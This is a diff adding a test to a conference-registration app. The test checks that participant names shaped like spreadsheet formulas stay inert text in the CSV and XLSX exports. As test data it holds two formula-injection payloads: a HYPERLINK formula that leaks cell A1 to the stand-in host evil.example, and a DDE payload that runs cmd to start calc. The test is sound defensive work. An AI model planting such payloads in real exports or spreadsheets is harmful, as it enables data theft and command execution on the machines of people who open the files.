@@ -532,3 +532,22 @@ def test_the_participants_export_holds_what_badges_need_and_nothing_private(app,
     assert [[c or "" for c in r] for r in sheet.iter_rows(values_only=True)] == rows  # empty cells read as None
     assert "Participants (CSV)" in other_client.get("/secretariat/meetings/FORUM-2027/registrations").get_data(
         as_text=True)
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_both_exports(app, client, other_client, reg):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    dan = app.test_client()
+    login(dan, reg.dan.email)
+    add(dan, reg.meeting, full_name=formula, email="lina@caucus.example", is_head="y")
+    add(dan, reg.meeting, full_name="+cmd|' /C calc'!A0", email="omar@caucus.example")
+    submit(dan, reg.meeting)
+    login(other_client, reg.sec.email)
+    decide(other_client, db.session.scalar(select(Delegation).order_by(Delegation.id.desc()).limit(1)), "confirm")
+    body = other_client.get("/secretariat/meetings/FORUM-2027/participants.csv").data.decode("utf-8")
+    names = [r[3] for r in csv.reader(io.StringIO(body.lstrip("\ufeff")))][1:]
+    assert sorted(names) == sorted(["'" + formula, "'+cmd|' /C calc'!A0"])
+    x = other_client.get("/secretariat/meetings/FORUM-2027/participants.xlsx")
+    sheet = load_workbook(io.BytesIO(x.data)).active
+    cells = [row[3] for row in sheet.iter_rows(min_row=2)]
+    assert {c.value for c in cells} == {formula, "+cmd|' /C calc'!A0"}
+    assert {c.data_type for c in cells} == {"s"}  # text, not a formula
